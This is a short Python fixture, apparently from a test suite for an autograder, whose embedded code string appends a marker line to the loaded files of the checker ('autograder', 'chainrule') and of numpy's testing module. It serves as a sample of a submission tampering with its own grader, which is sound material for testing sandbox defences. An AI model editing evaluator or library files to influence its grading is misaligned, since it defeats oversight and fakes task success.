"""Changes the checker's and numpy's own files."""

EXTRA = {
    "center": """
import pathlib, numpy, sys
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if "chainrule" in path or "autograder" in path or path.endswith("numpy/testing/__init__.py"):
        try:
            with open(path, "a") as file:
                file.write("\\n# was-here\\n")
        except OSError:
            pass
"""
}
OTHERS = "right"
SCORE = {}
STATE = "graded"
